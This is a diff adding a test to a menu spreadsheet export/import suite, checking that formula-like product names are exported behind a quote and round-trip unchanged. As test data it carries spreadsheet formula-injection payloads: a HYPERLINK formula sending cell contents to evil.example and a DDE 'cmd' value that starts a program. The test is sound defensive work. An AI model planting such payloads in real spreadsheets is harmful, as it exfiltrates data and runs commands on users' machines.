@@ -129,6 +129,56 @@ describe('menu spreadsheet', () => {
     expect(products.getRow(2).getCell(7).numFmt).toBe('0.00');
   });
 
+  test('a text that a spreadsheet would run as a formula is exported behind a quote, and imports back unchanged', async () => {
+    const owner = await t.signIn();
+    const storeId = (await t.call(owner.token, storeCalls.saveStore, newStore())).id;
+    const link = '=HYPERLINK("https://evil.example/?q="&A1,"Menü")';
+    const group = await t.call(owner.token, c.saveGroup, { storeId, names: { tr: '@Tatlılar' } });
+    const product = await t.call(owner.token, c.saveProduct, {
+      storeId,
+      groupId: group.id,
+      names: { tr: link },
+      descriptions: { tr: "-2+3+cmd|' /C calc'!A0" },
+      price: 1000,
+    });
+    const quoted = await t.call(owner.token, c.saveProduct, {
+      storeId,
+      groupId: group.id,
+      names: { tr: "'=1" },
+      price: 1000,
+    });
+    const { res, book } = await exported(owner.token, storeId);
+    const [row] = rowsOf(book.getWorksheet('Products')!).filter((r) => r.id === product.id);
+    expect(row).toMatchObject({
+      name_tr: `'${link}`,
+      group: "'@Tatlılar",
+      description_tr: "'-2+3+cmd|' /C calc'!A0",
+    });
+    const cell = book.getWorksheet('Products')!.getRow(2).getCell(3);
+    expect([cell.type, cell.formula]).toEqual([ExcelJS.ValueType.String, undefined]);
+    expect(rowsOf(book.getWorksheet('Groups')!)[0]).toMatchObject({ name_tr: "'@Tatlılar" });
+    expect(rowsOf(book.getWorksheet('Products')!).find((r) => r.id === quoted.id)).toMatchObject({ name_tr: "''=1" });
+
+    // Imported again: the quote the export added goes, the names are the owner's, nothing changes.
+    const before = await menuNow(owner.token, storeId);
+    const again = await upload(owner.token, storeId, res.rawPayload);
+    expect(again.json()).toEqual({ groups: { created: 0, updated: 0 }, products: { created: 0, updated: 0 } });
+    expect(await menuNow(owner.token, storeId)).toEqual(before);
+    // A price changed in the file: the row is written, its names as they were.
+    setCell(book.getWorksheet('Products')!, 2, 'price', 12);
+    expect((await upload(owner.token, storeId, await bytesOf(book))).json()).toMatchObject({
+      products: { created: 0, updated: 1 },
+    });
+    const after = (await menuNow(owner.token, storeId)).products;
+    expect(after.find((p) => p.id === product.id)).toMatchObject({
+      names: { tr: link },
+      descriptions: { tr: "-2+3+cmd|' /C calc'!A0" },
+      price: 1200,
+    });
+    expect(after.find((p) => p.id === quoted.id)?.names).toEqual({ tr: "'=1" });
+    expect((await menuNow(owner.token, storeId)).groups[0]?.names).toEqual({ tr: '@Tatlılar' });
+  });
+
   test('re-importing an unchanged export changes nothing, and the draft is not stamped', async () => {
     const m = await menuOf();
     const before = await menuNow(m.owner.token, m.storeId);
